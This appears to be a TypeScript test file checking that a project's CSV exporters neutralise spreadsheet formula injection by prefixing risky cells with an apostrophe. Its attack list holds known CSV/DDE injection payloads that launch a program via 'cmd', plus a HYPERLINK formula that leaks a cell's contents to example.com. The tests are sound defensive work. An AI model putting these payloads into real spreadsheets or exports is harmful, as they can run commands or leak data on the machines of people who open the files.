import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { tableToCsv } from '@/lib/kits/calculator/csv'
import { csvCell } from '@/lib/base/format/csv-cell'
import { asCsv } from '@/lib/subjects/lorem/output'
import { publicDraw } from '@/lib/base/random/draw'
import { generatorContext } from '@/lib/kits/generator/run'
import uuidGen from '@/lib/tools/generators/developer/uuid-gen'
import { initialValues } from '@/lib/kits/fields/initial'
import { regionOf } from '@/lib/base/region/regions'
import { CountedText } from '@/lib/subjects/word-count/document'
import { initialWordSettings } from '@/lib/subjects/word-count/settings'

/** Signs with which OWASP, “CSV Injection”, lets no cell begin, and the full-width ones that it adds for Japanese spreadsheets. */
const formulaSigns = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']

/** Known attacks: OWASP, “CSV Injection”, and James Kettle, “Comma Separated Vulnerabilities” (2014). */
const attacks = [
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  "+2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com/?leak="&A1,"Error")',
  '=1+1";=1+1',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '-1-1',
  '+1+1',
  '-1e5x',
  '--1',
  '+-1',
  '-.',
  '-',
  '-1,5+cmd',
  '-5%+1',
  '＝1+1',
]

describe('a cell of CSV', () => {
  it.each(attacks)('marks %j as text', (attack) => {
    expect(csvCell(attack).replace(/^"/, '').startsWith("'")).toBe(true)
  })

  it.each(['-5', '+5', '-0.25', '-.5', '-5.', '-1.5e-7', '+2E+10', '0', 'plain', "it's", '1-2', 'a=b', '−5', ''])(
    'leaves %j as it is',
    (text) => {
      expect(csvCell(text)).toBe(text)
    },
  )

  it('begins with a sign of formulas only where the whole of it is a number', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc
        .tuple(
          fc.constantFrom(...formulaSigns, '"', ' '),
          fc.string({ unit: fc.constantFrom(...'0123456789.eE+-=@|"\' ,;\r\n') }),
        )
        .map(([sign, rest]) => sign + rest),
      fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
      fc.constantFrom(...attacks),
    )
    fc.assert(
      fc.property(cell, (text) => {
        const { data } = Papa.parse<string[]>(`${csvCell(text)},x`, { delimiter: ',' })
        const read = data[0]?.[0] ?? ''
        const isNumber = /^[^\s]+$/.test(read) && Number.isFinite(Number(read))
        if (formulaSigns.includes(read.trimStart().charAt(0)) || formulaSigns.includes(read.charAt(0)))
          expect([read, isNumber]).toEqual([read, true])
        expect([text, `'${text}`]).toContain(read)
      }),
      { seed: 20260101, numRuns: 3000 },
    )
  })
})

describe('every file of CSV', () => {
  const attack = "-2+3+cmd|' /C calc'!A0"
  const marked = `'${attack}`

  it('of a calculator’s table, its headings included', () => {
    const columns = { name: { kind: 'text', label: attack } } as const
    expect(tableToCsv(columns, [{ name: attack }])).toBe(`${marked}\r\n${marked}\r\n`)
    expect(tableToCsv({ sum: { kind: 'number', label: 'Sum' } }, [{ sum: -1.5e-7 }])).toBe('Sum\r\n-0.00000015\r\n')
  })

  it('of pseudo-translated texts', () => {
    expect(asCsv(['original'], [[attack]])).toBe(`original\r\n${marked}\r\n`)
  })

  it('of word counts', () => {
    const counted = new CountedText()
    for (const _ of counted.replace('-2+3+cmd|A0', { ...initialWordSettings, words: 'spaces', hyphen: 'join' }));
    for (const line of counted.frequencyCsv('none', ['=a', 'b', 'c', 'd']).split('\r\n'))
      for (const one of line.split(',')) expect(one).not.toMatch(/^[=+@-](?![\d.]+$)/)
  })

  it('of UUIDs with a prefix', () => {
    const form = initialValues(uuidGen.form, { prefix: "=cmd|'/C'!A0;", count: 2 })
    const context = generatorContext(undefined, form, regionOf('global'), () => {}, publicDraw)
    const file: unknown = uuidGen.files?.csv
    const made = (file as { make(values: unknown, context: unknown): string }).make(form, context)
    expect(made.split('\r\n').slice(1, 3)).toEqual([expect.stringMatching(/^'=cmd/), expect.stringMatching(/^'=cmd/)])
  })
})
